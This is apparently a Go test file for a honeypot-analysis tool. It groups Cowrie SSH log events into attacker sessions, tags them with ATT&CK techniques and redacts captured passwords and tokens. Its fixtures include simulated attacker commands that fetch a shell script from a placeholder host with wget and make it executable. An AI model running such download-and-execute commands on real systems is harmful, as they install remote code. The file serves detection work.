package sessions

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/attack"
	"ttpctl/internal/engine"
	"ttpctl/internal/event"
	"ttpctl/internal/ingest"
	"ttpctl/internal/lifters"
	"ttpctl/internal/worker"
	"ttpctl/rules"
)

var now = time.Date(2026, 9, 20, 0, 0, 0, 0, time.UTC)

// pack returns the shipped rules.
func pack(t *testing.T) *engine.Snapshot {
	t.Helper()
	outlines := engine.ReadOutlines(rules.Outlines())
	cfg := engine.Config{Catalogue: attack.Load(), Builders: lifters.Builders(), Quick: true, Outlines: outlines}
	rs, diags := engine.Compile(outlines.Sources("", rules.Text), cfg)
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	return engine.NewSnapshot(rs, nil, now)
}

// run puts the sessions of a log together, and returns its tags too.
func run(t *testing.T, snap *engine.Snapshot, o Options, log string, workers int) (*Keeper, []event.Tag) {
	t.Helper()
	k := NewKeeper(o)
	var tags []event.Tag
	fields := event.NewFieldSet()
	fields.Join(snap.Ruleset().Needs())
	fields.Join(Needs())
	tagger := &worker.Tagger{
		InForce: func() *engine.Snapshot { return snap }, Now: func() time.Time { return now },
		Record: func() worker.Recorder { return k.Recorder() }, Recorded: k.Add,
		Publish: func(batch []event.Tag) error {
			k.Tag(batch)
			for _, g := range batch { // pieces of a text that is written over
				for _, text := range [...]*string{&g.SourceKind, &g.SourceID, &g.SessionID.Value, &g.DeckyID.Value} {
					*text = strings.Clone(*text)
				}
				tags = append(tags, g)
			}
			return nil
		},
	}
	in := []ingest.Input{{Name: "log", Reader: strings.NewReader(log)}}
	a, err := tagger.Run(context.Background(), in, ingest.Config{Workers: workers, Fields: fields})
	if err != nil || a.Rejected > 0 {
		t.Fatalf("Run = %+v, %v", a.Rejections, err)
	}
	return k, tags
}

func sampleLog(t *testing.T) string {
	t.Helper()
	data, err := os.ReadFile("../../../testdata/logs/cowrie.json")
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// Every tag of a log is on the line of the event that it is of, for any number
// of workers, and reading a log twice gives no line twice.
func TestTagsMeetTheirLines(t *testing.T) {
	snap, log := pack(t), sampleLog(t)
	k, tags := run(t, snap, Options{}, log, 1)
	list := k.Sessions(ByTelling)
	if len(list) != 34 || k.Total().String() != "34" {
		t.Errorf("%d sessions, total %v, want 34: as many as connects", len(list), k.Total())
	}
	have := map[string]int{}
	for _, s := range list {
		n := 0
		for _, l := range s.Lines {
			n += len(l.Tags)
			for _, tag := range l.Tags {
				have[fmt.Sprint(s.Key(), l.Kind, l.SourceID, tag.RuleID, tag.Technique)]++
			}
		}
		if n != s.Tags {
			t.Errorf("%s: %d tags on lines, counted %d", s.Key(), n, s.Tags)
		}
	}
	inSessions := 0
	for i := range tags {
		g := &tags[i]
		if !g.SessionID.Valid {
			continue
		}
		inSessions++
		key := fmt.Sprint(g.DeckyID.Value, "/", g.SessionID.Value, g.SourceKind, g.SourceID, g.RuleID, g.MostSpecific())
		if have[key] != 1 {
			t.Errorf("tag %s stands %d times on its line", key, have[key])
		}
	}
	if inSessions < 100 || inSessions != len(have) {
		t.Errorf("%d tags of sessions, %d on lines", inSessions, len(have))
	}
	for _, workers := range []int{2, 7} {
		other, _ := run(t, snap, Options{}, log, workers)
		if diff := cmp.Diff(list, other.Sessions(ByTelling)); diff != "" {
			t.Errorf("%d workers (-1 +%d):\n%s", workers, workers, diff)
		}
	}
	twice, _ := run(t, snap, Options{}, log+log, 2)
	for i, s := range twice.Sessions(ByTelling) {
		if len(s.Lines) != len(list[i].Lines) || s.Commands != list[i].Commands {
			t.Errorf("read twice, %s has %d lines and %d commands, want %d and %d", s.Key(), len(s.Lines), s.Commands, len(list[i].Lines), list[i].Commands)
		}
	}
}

// cowrie writes a Cowrie log, an event a line: the type and what else it says.
func cowrie(session, sensor string, events ...string) string {
	var b strings.Builder
	at := time.Date(2026, 9, 14, 10, 0, 0, 0, time.UTC)
	for _, e := range events {
		typ, rest, _ := strings.Cut(e, " ")
		if rest != "" {
			rest = "," + rest
		}
		fmt.Fprintf(&b, `{"eventid":"cowrie.%s","src_ip":"192.0.2.7","session":%q,"sensor":%q,"timestamp":%q%s}`+"\n",
			typ, session, sensor, at.Format("2006-01-02T15:04:05.000000Z"), rest)
		at = at.Add(time.Second)
	}
	return b.String()
}

func TestSession(t *testing.T) {
	log := cowrie("s1", "decoy",
		`session.connect "protocol":"ssh"`,
		`client.version "version":"SSH-2.0-Go"`,
		`login.failed "username":"root","password":"hunter2"`,
		`login.success "username":"root","password":"toor"`,
		`command.input "input":"cd /tmp"`,
		`command.input "input":"wget http://192.0.2.9/x.sh?token=abcdef -O x; chmod +x x"`,
		`session.file_download "url":"http://192.0.2.9/x.sh?token=abcdef","shasum":"ab","destfile":"/tmp/x"`,
		`session.closed "duration":"5"`)
	k, _ := run(t, pack(t), Options{}, log, 1)
	list := k.Sessions(ByTime)
	if len(list) != 1 {
		t.Fatalf("%d sessions", len(list))
	}
	s := list[0]
	x, err := NewExplainer()
	if err != nil {
		t.Fatal(err)
	}
	x.Effects(s)
	want := Session{
		ID: "s1", Sensor: "decoy", Attacker: s.Attacker, AttackerIP: "192.0.2.7", Service: "ssh", Client: "SSH-2.0-Go",
		Start: s.Start, End: s.End, Seconds: 5, LoggedIn: true, User: "root", FailedLogins: 1,
		Commands: 2, Downloads: 1, Tags: s.Tags, Techniques: s.Techniques, Tactics: s.Tactics, Lines: s.Lines,
	}
	if diff := cmp.Diff(want, *s); diff != "" {
		t.Errorf("session (-want +got):\n%s", diff)
	}
	var texts []string
	for _, l := range s.Lines {
		texts = append(texts, l.Text)
		texts = append(texts, l.Effects...)
	}
	wanted := []string{
		"login as root by password: refused", "login as root by password: accepted",
		"cd /tmp",
		"wget http://192.0.2.9/x.sh?token=*** -O x; chmod +x x", "fetches http://192.0.2.9/x.sh?token=*** to /tmp/x", "writes /tmp/x", "mode /tmp/x (executable)",
		"downloads http://192.0.2.9/x.sh?token=*** to /tmp/x",
		"the whole session",
	}
	for _, w := range wanted {
		if !slices.ContainsFunc(texts, func(s string) bool { return strings.HasPrefix(s, w) }) {
			t.Errorf("no %q among %q", w, texts)
		}
	}
	if !slices.Contains(s.Techniques, "T1105") || !slices.Contains(s.Tactics, "TA0011") {
		t.Errorf("techniques %v, tactics %v, want T1105 of TA0011", s.Techniques, s.Tactics)
	}
	data, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"hunter2", "toor", "abcdef"} {
		if strings.Contains(string(data), secret) {
			t.Errorf("the session shows %s: %s", secret, data)
		}
	}
	var back Session
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(*s, back); diff != "" {
		t.Errorf("out of JSON (-want +got):\n%s", diff)
	}
}

// Two sensors may give one id; a session in no session is counted.
func TestSensorsAndOnly(t *testing.T) {
	log := cowrie("s1", "a", `session.connect`, `command.input "input":"id"`, `session.closed`) +
		cowrie("s1", "b", `session.connect`, `command.input "input":"uname"`, `session.closed`)
	snap := pack(t)
	k, _ := run(t, snap, Options{}, log, 1)
	var keys []string
	for _, s := range k.Sessions(ByTime) {
		keys = append(keys, s.Key())
	}
	if want := []string{"a/s1", "b/s1"}; !slices.Equal(keys, want) {
		t.Errorf("sessions %v, want %v", keys, want)
	}
	k, _ = run(t, snap, Options{Only: func(sensor, _ string) bool { return sensor == "b" }}, log, 2)
	if list := k.Sessions(ByTime); len(list) != 1 || list[0].Sensor != "b" {
		t.Errorf("Only gives %d sessions", len(list))
	}
}

// However much comes in, what is kept is bounded, and what is not kept is
// counted; the telling sessions keep their lines.
func TestBounds(t *testing.T) {
	var b strings.Builder
	for i := range 300 {
		b.WriteString(cowrie(fmt.Sprintf("dull%d", i), "a", `session.connect`, `login.failed "username":"u`+fmt.Sprint(i)+`","password":"x"`, `session.closed`))
	}
	telling := []string{`session.connect`, `login.success "username":"root","password":"x"`}
	for i := range 50 {
		telling = append(telling, fmt.Sprintf(`command.input "input":"wget http://192.0.2.9/%d.sh; chmod 777 %d.sh; uname -a"`, i, i))
	}
	b.WriteString(cowrie("telling", "a", append(telling, `session.closed`)...))
	for i := range 300 {
		b.WriteString(cowrie(fmt.Sprintf("late%d", i), "a", `session.connect`, `session.closed`))
	}
	k, _ := run(t, pack(t), Options{Sessions: 100, Bytes: 60 << 10}, b.String(), 2)
	list := k.Sessions(ByTelling)
	if len(list) > 100 || k.bytes > 60<<10 {
		t.Errorf("%d sessions with %d bytes are kept", len(list), k.bytes)
	}
	if list[0].ID != "telling" || len(list[0].Lines) != 52 || list[0].LeftOut != 0 {
		t.Errorf("first is %s with %d lines, %d left out; want the telling one with its 52", list[0].ID, len(list[0].Lines), list[0].LeftOut)
	}
	if total := k.Total(); !total.More || total.N < 500 {
		t.Errorf("total %v, want at least the 500 that were given up and kept", total)
	}
}

// A session of more lines than are kept counts all of them.
func TestEndlessSession(t *testing.T) {
	events := []string{`session.connect`}
	for range maxLines + 10 {
		events = append(events, `command.input "input":"true"`)
	}
	k, _ := run(t, pack(t), Options{}, cowrie("s", "a", append(events, `session.closed`)...), 2)
	s := k.Sessions(ByTime)[0]
	if s.Commands != maxLines+10 || len(s.Lines) != maxLines || s.LeftOut != 11 {
		t.Errorf("%d commands, %d lines, %d left out; want %d, %d, 11", s.Commands, len(s.Lines), s.LeftOut, maxLines+10, maxLines)
	}
}

// Giant and broken texts are cut, and ids stay apart.
func TestGiantTexts(t *testing.T) {
	long := strings.Repeat("é", 100_000)
	log := cowrie("s", "a", `session.connect`, `command.input "input":"`+long+`"`, `session.closed`)
	k, _ := run(t, pack(t), Options{}, log, 1)
	l := k.Sessions(ByTime)[0].Lines[0]
	if len(l.Text) > maxText || len(l.Text)+l.Cut != len(long) {
		t.Errorf("%d bytes kept, %d cut, of %d", len(l.Text), l.Cut, len(long))
	}
	if a, b := idOf(long+"a"), idOf(long+"b"); a == b || len(a) > maxID {
		t.Errorf("long ids become %q and %q", a, b)
	}
}
